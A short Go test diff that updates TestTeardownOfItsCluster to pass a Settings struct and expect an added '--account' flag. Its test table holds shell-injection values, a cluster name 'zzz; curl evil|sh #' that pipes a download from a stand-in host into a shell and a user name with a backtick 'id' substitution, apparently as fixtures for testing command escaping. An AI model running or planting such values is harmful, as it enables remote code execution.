@@ -123,7 +123,7 @@ func TestTeardownOfItsCluster(t *testing.T) {
 			Cluster: "zzz; curl evil|sh #", UserName: "x\n`id`",
 		},
 	} {
-		if got := r.teardownOfItsCluster("gen3"); got != want {
+		if got := r.teardownOfItsCluster(Settings{Account: "123456789012", Namespace: "gen3"}); got != want+" --account 123456789012" {
 			t.Errorf("got %q, want %q", got, want)
 		}
 	}
